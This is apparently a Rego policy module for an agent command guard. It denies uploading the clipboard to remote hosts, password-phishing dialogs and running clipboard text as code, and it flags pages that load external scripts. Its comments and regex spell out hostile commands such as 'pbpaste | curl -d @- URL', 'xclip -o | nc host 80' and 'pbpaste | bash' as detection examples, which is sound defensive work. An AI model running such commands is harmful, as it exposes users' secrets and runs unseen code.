# Code in other languages (issue 11 items 3 and 11, code27): the facts that interpreter code,
# AppleScript and PowerShell give beyond the shell's own (hookward-shell programs/code_shapes.rs,
# windows/shapes.rs), where no shell rule reads them. The upload and host tests are shell.rego's
# (imported as `sh`).
package hookward.rules.code

import data.hookward.rules.shell as sh

code_facts := object.get(object.get(input, "facts", {}), "shell", {})

code_uploads := object.get(code_facts, "uploads", [])

code_verbs := object.get(code_facts, "verbs", [])

# Programs that print the clipboard's content (pbpaste(1) on macOS; xclip -o and xsel -o on X11;
# wl-paste on Wayland (wl-clipboard); termux-clipboard-get (Termux:API); PowerShell's
# Get-Clipboard and its alias gcb).
clipboard_readers := {"pbpaste", "xclip", "xsel", "wl-paste", "termux-clipboard-get", "Get-Clipboard", "get-clipboard", "gcb"}

clipboard_source(u) if sh.upload_source(u) == "<clipboard>"

clipboard_source(u) if {
	some p in clipboard_readers
	sh.upload_source(u) == sprintf("<piped from %s>", [p])
}

# @rule shell/clipboard-upload deny
# The clipboard's content sent to another host: pbpaste | curl -d @- URL, xclip -o | nc host 80, wl-paste | curl -F f=@- URL, AppleScript's `the clipboard` put in a `do shell script` that uploads (hookward-shell code_shapes.rs). The clipboard is where password managers, 2FA apps and people put passwords, tokens and keys for a moment; it is the user's, not the project's, and no task needs it sent elsewhere. Loopback and private targets are not this.
decision contains {"id": "shell/clipboard-upload", "decision": "deny", "reason": reason} if {
	some u in code_uploads
	clipboard_source(u)
	not sh.local_target(u.target)
	reason := sprintf("the command would send the clipboard's content to %s (%s)", [sh.target_host(u.target), u.evidence])
}

# @rule shell/password-dialog deny
# A dialog that asks the user for a password the agent would read: AppleScript `display dialog "…" default answer "" with hidden answer` (osascript; AppleScript Language Guide, Standard Additions). The user cannot tell a dialog the agent draws from one macOS or an app shows, so whatever it claims (Xcode, Keychain, an update), the answer goes to the agent: credential phishing. A program that needs a password asks for it itself (sudo, security unlock-keychain).
decision contains {"id": "shell/password-dialog", "decision": "deny", "reason": reason} if {
	some f in code_verbs
	f.class == "password_prompt"
	reason := sprintf("the command would show a password dialog whose answer the agent reads (%s %s %s: %s)", [f.program, f.verb, f.detail, f.evidence])
}

# @rule path/external-script ask
# A file tool's write that makes a page load a script from another host: <script src="https://host/…"> or Next.js <Script src="https://host/…"> added to a page, layout or template, where the host is not a well-known CDN or a vendor whose own docs give the snippet (hookward-facts harmful_code.rs WELL_KNOWN_SCRIPT_HOSTS). Every visitor's browser runs whatever that host serves, with the page's cookies and forms (OWASP, "Third Party JavaScript Management"; the shape of wallet drainers and skimmers).
decision contains {"id": "path/external-script", "decision": "ask", "reason": reason} if {
	some f in object.get(input.facts, "written_exec", [])
	f.kind == "external_script"
	reason := sprintf("the write would make %s load a script from another host (line %d: %s)", [f.path, f.line, f.evidence])
}

code_dynamic := object.get(code_facts, "dynamic_code", [])

# The clipboard read into code: a substitution of a clipboard reader (`$(pbpaste)`), or a
# clipboard reader piped into a shell or interpreter.
clipboard_code_re := `(?:\$\(\s*(?:pbpaste|xclip|xsel|wl-paste|termux-clipboard-get|Get-Clipboard)\b)|(?:\b(?:pbpaste|xclip|xsel|wl-paste|termux-clipboard-get)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da|k|fi)?sh\b)|(?:\b(?:pbpaste|xclip|xsel|wl-paste|termux-clipboard-get)\b[^|;&]*\|\s*(?:sudo\s+)?(?:python3?|node|ruby|perl|php|pwsh)\b)`

# @rule shell/clipboard-exec deny
# The clipboard's text run as code: eval "$(pbpaste)", sh -c "$(xclip -o)", pbpaste | bash, wl-paste | python3. Whatever a web page, chat message or document put there runs unseen — the shape of pastejacking and of "paste this fix" lures (a page's copy button can place a different command than the one shown); the agent cannot read it first, and the user can paste it themselves.
decision contains {"id": "shell/clipboard-exec", "decision": "deny", "reason": reason} if {
	some d in code_dynamic
	d.origin in {"substitution", "stdin", "pipe"}
	regex.match(clipboard_code_re, d.evidence)
	reason := sprintf("the command would run the clipboard's text as code (%s)", [d.evidence])
}
